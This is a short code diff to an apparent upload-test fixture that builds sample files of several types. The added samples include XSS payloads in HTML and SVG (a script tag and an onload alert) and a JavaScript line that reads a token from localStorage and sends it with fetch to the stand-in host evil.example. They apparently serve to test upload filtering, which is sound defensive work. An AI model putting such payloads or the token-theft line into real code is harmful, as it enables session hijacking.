@@ -57,7 +57,12 @@ export const samples = {
   txtCp1251: Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2, 0x0d, 0x0a]),
   exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(16), randomBytes(64)]),
   elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(64)]),
-  html: Buffer.from('<script>alert(1)</script>\u0000'),
+  html: Buffer.from('<!doctype html>\n<html><body><h1>Отчёт</h1><script>alert(1)</script></body></html>\n'),
+  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>\n'),
+  xml: Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<doc><p>Текст</p></doc>\n'),
+  js: Buffer.from(
+    'const token = localStorage.getItem("token");\nfetch("https://evil.example/?t=" + token);\n',
+  ),
 };
 
 export interface UploadFile {
